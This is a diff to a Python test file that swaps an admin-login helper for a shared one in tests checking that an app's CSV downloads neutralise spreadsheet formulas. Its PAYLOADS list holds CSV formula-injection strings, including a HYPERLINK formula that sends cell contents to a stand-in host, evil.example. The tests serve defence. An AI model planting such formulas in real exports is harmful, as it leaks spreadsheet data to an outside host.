@@ -2,15 +2,12 @@
 
 import csv
 import io
-import secrets
 
 import webapp.admin.insights_routes  # noqa: F401  (registers the routes on the admin blueprint)
+from tests.conftest import sign_in_directly
 from tests.webapp.catalog_factory import PASSWORD, make_account
 from webapp.admin.insights_routes import PAGES
-from webapp.auth.sessions import start_session
-from webapp.extensions import db
 from webapp.insights.tables import tables_for
-from webapp.models import Account
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -20,24 +17,6 @@ PAYLOADS = [
     "@sum(1+1)",
 ]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def _admin(app):
-    client = app.test_client()
-    with app.app_context():
-        account = Account(
-            email=f"{secrets.token_hex(4)}@example.com",
-            password_hash="!",
-            is_admin=True,
-            session_token=secrets.token_hex(8),
-        )
-        db.session.add(account)
-        db.session.commit()
-        user_id = start_session(account, None).id
-    with client.session_transaction() as session:
-        session["_user_id"] = user_id
-        session["_fresh"] = True
-    return client
 
 
 def _search_as_viewer(app, queries: list[tuple[str, int]]) -> None:
@@ -65,7 +44,7 @@ def _is_number(cell: str) -> bool:
 
 def test_zero_result_searches_download_as_text_not_formulas(app):
     _search_as_viewer(app, [(p, 0) for p in PAYLOADS])
-    admin = _admin(app)
+    admin = sign_in_directly(app, app.test_client(), is_admin=True)
     assert admin.post("/admin/insights/refresh").status_code == 302
     rows = _rows(admin.get("/admin/insights/supply/zero-results.csv"))
     queries = {row[0] for row in rows[1:]}
@@ -75,7 +54,7 @@ def test_zero_result_searches_download_as_text_not_formulas(app):
 
 def test_every_csv_download_quotes_cells_a_spreadsheet_would_evaluate(app):
     _search_as_viewer(app, [(p, 0) for p in PAYLOADS] + [(p, 3) for p in PAYLOADS])
-    admin = _admin(app)
+    admin = sign_in_directly(app, app.test_client(), is_admin=True)
     assert admin.post("/admin/insights/refresh").status_code == 302
     cells = 0
     for page in PAGES:
